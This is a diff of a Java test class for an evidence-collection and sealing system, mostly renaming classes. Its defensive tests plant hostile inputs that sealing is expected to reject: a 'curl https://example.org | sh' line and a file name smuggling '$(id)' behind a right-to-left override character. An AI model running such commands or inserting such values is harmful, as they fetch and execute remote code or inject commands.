@@ -21,8 +21,8 @@ import java.util.concurrent.atomic.AtomicReference;
 import org.ephemera.collect.CollectionListener;
 import org.ephemera.collect.Deadline;
 import org.ephemera.collect.EvidenceSource;
-import org.ephemera.collect.Workers;
-import org.ephemera.format.Layout;
+import org.ephemera.collect.WorkerRegistry;
+import org.ephemera.format.PackageLayout;
 import org.ephemera.format.RuntimeRecord;
 import org.ephemera.model.Artifact;
 import org.ephemera.model.OutcomeCode;
@@ -36,14 +36,14 @@ import org.ephemera.store.ForeignObjectException;
 import org.ephemera.store.Lock;
 import org.ephemera.store.Retention;
 import org.ephemera.store.StoreException;
+import org.ephemera.testing.AcquisitionRequests;
+import org.ephemera.testing.IndependentVerifiers;
 import org.ephemera.testing.InterceptedStore;
 import org.ephemera.testing.PagedSource;
 import org.ephemera.testing.RememberingStore;
-import org.ephemera.testing.Requests;
 import org.ephemera.testing.SealedPackages;
-import org.ephemera.testing.Strangers;
 import org.ephemera.verify.PackageVerifier;
-import org.ephemera.verify.Verdict;
+import org.ephemera.verify.VerificationResult;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -78,10 +78,10 @@ class CollisionTest {
 
     @Test
     void anotherAlertFinishesTheOpeningThatADeadWorkerBegan() throws Exception {
-        EvidenceStore dying = new InterceptedStore(store, key -> key.endsWith(Layout.TRIGGER), () -> {
+        EvidenceStore dying = new InterceptedStore(store, key -> key.endsWith(PackageLayout.TRIGGER), () -> {
             throw new StoreException("killed here");
         });
-        assertThatThrownBy(() -> worker("a", dying).open(Requests.alert("e-1", Instant.EPOCH), PLANNED))
+        assertThatThrownBy(() -> worker("a", dying).open(AcquisitionRequests.alert("e-1", Instant.EPOCH), PLANNED))
                 .isInstanceOf(StoreException.class);
 
         PackageId id = run(worker("b", store), "e-2");
@@ -93,7 +93,9 @@ class CollisionTest {
     void ofTwoAlertsThatOvertakeEachOtherTheOneThatOpenedIsInside() throws Exception {
         Acquisition second = worker("b", store);
         EvidenceStore overtaken = new InterceptedStore(
-                store, key -> key.endsWith(Layout.OPEN), () -> second.open(Requests.alert("e-2", NOON), PLANNED));
+                store,
+                key -> key.endsWith(PackageLayout.OPEN),
+                () -> second.open(AcquisitionRequests.alert("e-2", NOON), PLANNED));
 
         PackageId id = run(worker("a", overtaken), "e-1");
 
@@ -103,7 +105,7 @@ class CollisionTest {
     @Test
     void nobodyCollectsIntoAPackageThatWasSealedMeanwhile() throws Exception {
         Acquisition other = worker("b", store);
-        Opened opened = other.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = other.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         EvidenceStore overtaken = new InterceptedStore(store, key -> key.startsWith("work/"), () -> other.seal(opened));
         Acquisition slow = worker("a", overtaken);
 
@@ -116,13 +118,13 @@ class CollisionTest {
     @Test
     void aWorkerThatSleptWhileItSealedWritesNothingMore() throws Exception {
         Acquisition[] other = new Acquisition[1];
-        EvidenceStore sleeping = new InterceptedStore(store, key -> key.endsWith(Layout.INDEX), () -> {
+        EvidenceStore sleeping = new InterceptedStore(store, key -> key.endsWith(PackageLayout.INDEX), () -> {
             clock.turn(Duration.ofMinutes(5));
-            other[0].seal(other[0].open(Requests.alert("e-1", NOON), PLANNED));
+            other[0].seal(other[0].open(AcquisitionRequests.alert("e-1", NOON), PLANNED));
         });
         other[0] = worker("b", store);
         Acquisition sleeper = worker("a", sleeping);
-        Opened opened = sleeper.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = sleeper.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         sleeper.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
 
         assertThatThrownBy(() -> sleeper.seal(opened)).hasMessageContaining("away for too long");
@@ -133,11 +135,11 @@ class CollisionTest {
     /** A run that seals at its deadline, what is not finished included, and fails there: the next one collects the rest. */
     @Test
     void whatIsCollectedAfterASealingThatFailedIsInTheIndex() throws Exception {
-        EvidenceStore failing = new InterceptedStore(store, key -> key.endsWith(Layout.OUTCOMES), () -> {
+        EvidenceStore failing = new InterceptedStore(store, key -> key.endsWith(PackageLayout.OUTCOMES), () -> {
             throw new StoreException("refused once");
         });
         Acquisition first = worker("a", failing);
-        Opened opened = first.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = first.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         assertThatThrownBy(() -> first.seal(opened)).hasMessageContaining("refused once");
 
         Acquisition second = worker("b", store);
@@ -147,19 +149,19 @@ class CollisionTest {
         assertIntact(opened.open().packageId());
         assertThat(PackageVerifier.verify(store, opened.open().packageId(), signer.publicKey())
                         .verdict())
-                .isEqualTo(Verdict.INTACT);
+                .isEqualTo(VerificationResult.INTACT);
     }
 
     @Test
     void aFileThatWasPlantedIsNotSealed() throws Exception {
         Acquisition worker = worker("a", store);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         byte[] planted = "curl https://example.org | sh\n".getBytes(StandardCharsets.UTF_8);
-        store.create(opened.open().packageId().prefix() + Layout.VERIFY, Blob.of(planted));
+        store.create(opened.open().packageId().prefix() + PackageLayout.VERIFY, Blob.of(planted));
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
 
         assertThatThrownBy(() -> worker.seal(opened)).hasMessageContaining("was not written by this version");
-        assertThat(folder.resolve("evidence").resolve(opened.open().packageId().prefix() + Layout.SEAL))
+        assertThat(folder.resolve("evidence").resolve(opened.open().packageId().prefix() + PackageLayout.SEAL))
                 .doesNotExist();
     }
 
@@ -168,8 +170,8 @@ class CollisionTest {
     @ValueSource(strings = {"VERIFY-of-2026-11-27.txt", "VERIFY-of-2026-11-28.txt"})
     void whatAnEarlierVersionBeganToCloseIsSealedWithItsText(String resource) throws Exception {
         Acquisition worker = worker("a", store);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
-        String text = opened.open().packageId().prefix() + Layout.VERIFY;
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        String text = opened.open().packageId().prefix() + PackageLayout.VERIFY;
         byte[] earlier;
         try (InputStream in = Objects.requireNonNull(CollisionTest.class.getResourceAsStream(resource))) {
             earlier = in.readAllBytes();
@@ -191,11 +193,11 @@ class CollisionTest {
                 store,
                 key -> {
                     place[0] = key;
-                    return key.contains("/" + Layout.RAW);
+                    return key.contains("/" + PackageLayout.RAW);
                 },
                 () -> store.create(place[0], Blob.of("planted".getBytes(StandardCharsets.UTF_8))));
         Acquisition worker = worker("a", overtaken);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
 
         assertThat(worker.seal(opened).outcomes().items())
@@ -222,8 +224,8 @@ class CollisionTest {
             })
     void aLogThatWasPlantedIsToldAndTheRestCollectedOnceItIsGone(String line) throws Exception {
         Acquisition worker = worker("a", store);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
-        String key = opened.open().packageId().prefix() + Layout.segment("test.task", "0badc0de", 1);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        String key = opened.open().packageId().prefix() + PackageLayout.segment("test.task", "0badc0de", 1);
         store.create(key, Blob.of((line + "\n").getBytes(StandardCharsets.UTF_8)));
 
         assertThatThrownBy(() -> worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1))))
@@ -240,15 +242,15 @@ class CollisionTest {
     @Test
     void aNameThatIsNoneOfOursIsToldAndTheRestSealedOnceItIsGone() throws Exception {
         Acquisition worker = worker("a", store);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
         String prefix = opened.open().packageId().prefix();
-        Path planted = folder.resolve("evidence").resolve(prefix + Layout.RAW + "00 \u202e$(id)");
+        Path planted = folder.resolve("evidence").resolve(prefix + PackageLayout.RAW + "00 \u202e$(id)");
         Files.writeString(planted, "planted");
 
         assertThatThrownBy(() -> worker.seal(opened))
                 .isInstanceOf(ForeignObjectException.class)
-                .hasMessageContaining(Layout.RAW + "00 ?$(id)' has a name that no file of a package has");
+                .hasMessageContaining(PackageLayout.RAW + "00 ?$(id)' has a name that no file of a package has");
 
         Files.delete(planted);
         worker.seal(opened);
@@ -260,10 +262,10 @@ class CollisionTest {
         AtomicReference<@Nullable String> segment = new AtomicReference<>();
         EvidenceStore attacked = new InterceptedStore(
                 store,
-                key -> key.contains(Layout.ACQUISITION) && segment.compareAndSet(null, key),
+                key -> key.contains(PackageLayout.ACQUISITION) && segment.compareAndSet(null, key),
                 () -> store.create(Objects.requireNonNull(segment.get()), Blob.of(new byte[] {'{', '}'})));
         Acquisition worker = worker("a", attacked);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
 
         assertThatThrownBy(() -> worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1))))
                 .satisfies(failure -> assertThat(ForeignObjectException.keyIn(failure))
@@ -275,9 +277,9 @@ class CollisionTest {
     @ValueSource(strings = {"notes.txt", "test.task.jsonl", "test.task-00000000-0001.jsonl.bak"})
     void aFileAmongTheLogThatIsNoneOfItDoesNotStopCollecting(String name) throws Exception {
         Acquisition worker = worker("a", store);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
-        Path planted =
-                folder.resolve("evidence").resolve(opened.open().packageId().prefix() + Layout.ACQUISITION + name);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        Path planted = folder.resolve("evidence")
+                .resolve(opened.open().packageId().prefix() + PackageLayout.ACQUISITION + name);
         Files.createDirectories(planted.getParent());
         Files.writeString(planted, "no line of a log\n");
 
@@ -296,7 +298,7 @@ class CollisionTest {
     void whatCannotBeSealedForAFileThatIsNoneOfOursIsSealedInACopyWithoutIt() throws Exception {
         Lock locked = new Lock(Retention.Mode.COMPLIANCE, Optional.of(Instant.parse("2099-01-01T00:00:00Z")), false);
         Acquisition worker = worker("a", new RememberingStore(store, locked));
-        Opened opened = worker.open(Requests.byHand("e-1", Retention.parse("compliance:30")), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.byHand("e-1", Retention.parse("compliance:30")), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
         PackageId id = opened.open().packageId();
         Path standing = folder.resolve("evidence").resolve(id.prefix());
@@ -310,7 +312,7 @@ class CollisionTest {
         Acquisition there = worker("b", other);
         there.seal(there.reopen(id));
 
-        Strangers.accept(other, id, signer.publicKey());
+        IndependentVerifiers.accept(other, id, signer.publicKey());
     }
 
     /** What a file browser leaves where it looked, or a name that any file may have. */
@@ -318,7 +320,7 @@ class CollisionTest {
     @ValueSource(strings = {"data/.DS_Store", "data/notes.txt", "data/trigger/event2.json", "data/raw/loot.bin"})
     void aFileThatIsNoneOfOursIsToldAndTheRestSealedOnceItIsGone(String path) throws Exception {
         Acquisition worker = worker("a", store);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
         Path planted =
                 folder.resolve("evidence").resolve(opened.open().packageId().prefix() + path);
@@ -337,7 +339,7 @@ class CollisionTest {
     @Test
     void aClaimThatIsNoneHoldsNobodyUp() throws Exception {
         Acquisition worker = worker("a", store);
-        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
         PackageId id = opened.open().packageId();
         store.create("work/" + id + "/000001.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
         store.create("work/" + id + "/zzz.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
@@ -350,14 +352,14 @@ class CollisionTest {
     private static final Instant NOON = Instant.parse("2026-11-25T12:05:00Z");
 
     private PackageId run(Acquisition worker, String event) throws IOException {
-        Opened opened = worker.open(Requests.alert(event, NOON), PLANNED);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert(event, NOON), PLANNED);
         worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
         worker.seal(opened);
         return opened.open().packageId();
     }
 
     private void assertIntact(PackageId id) throws Exception {
-        Strangers.accept(folder.resolve("evidence").resolve(id.prefix()), signer.publicKey());
+        IndependentVerifiers.accept(folder.resolve("evidence").resolve(id.prefix()), signer.publicKey());
     }
 
     private Acquisition worker(String name, EvidenceStore to) {
@@ -365,7 +367,7 @@ class CollisionTest {
                 SOURCES,
                 to,
                 signer,
-                Workers.unknown(name),
+                WorkerRegistry.unknown(name),
                 CollectionListener.NONE,
                 RuntimeRecord.local(Map.of()),
                 clock);
